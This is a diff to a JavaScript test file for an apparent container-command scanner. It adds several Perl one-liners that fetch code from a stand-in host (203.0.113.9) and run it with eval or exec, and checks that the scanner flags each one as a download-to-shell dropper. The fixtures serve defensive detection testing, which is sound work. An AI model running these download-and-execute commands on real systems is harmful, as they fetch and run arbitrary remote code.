@@ -540,11 +540,23 @@ t.test(
 )
 
 t.test('a Perl one-liner that loads LWP with -M and evals what it gets is a dropper', async (t) => {
-  const container = { command: ['perl', '-MLWP::Simple', '-e', 'eval get "http://203.0.113.9/x"'] }
-  // The gate is not the cause: the ungated scanner misses it too (`\bLWP::` needs a word start, and -M stands before it).
-  t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container))
-  const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
-  t.ok(kinds.includes('download-to-shell'), JSON.stringify(kinds), { todo: 'evasion found, see report: FETCHES in src/detect/script-droppers.ts' })
+  for (const command of [
+    ['perl', '-MLWP::Simple', '-e', 'eval get "http://203.0.113.9/x"'],
+    ['sh', '-c', `perl -MLWP::Simple -e 'eval get q{http://203.0.113.9/x}'`],
+    ['perl', '-MLWP::Simple', '-e', 'eval(get($ENV{U}))'],
+    ['sh', '-c', `perl -MLWP::Simple -e 'exec(get($ENV{U}))'`],
+    ['sh', '-c', `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:80");eval(join"",<$s>)'`],
+  ]) {
+    const container = { command }
+    const name = JSON.stringify(command)
+    // `\bLWP::` needs a word start, and -M stands before it: the -M spelling is read on its own.
+    t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container), name)
+    const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
+    t.ok(kinds.includes('download-to-shell'), `${name}: ${JSON.stringify(kinds)}`)
+  }
+  // Loading LWP without executing what it gets is no dropper.
+  const kinds = scannerSays(gatedScanner, { command: ['perl', '-MLWP::Simple', '-e', 'getstore("http://203.0.113.9/x", "x")'] }).map((s) => s.kind)
+  t.notOk(kinds.includes('download-to-shell'), JSON.stringify(kinds))
 })
 
 t.test('a pool named without its port connects, never reported by itself: curl -o file -u user is no miner', async (t) => {
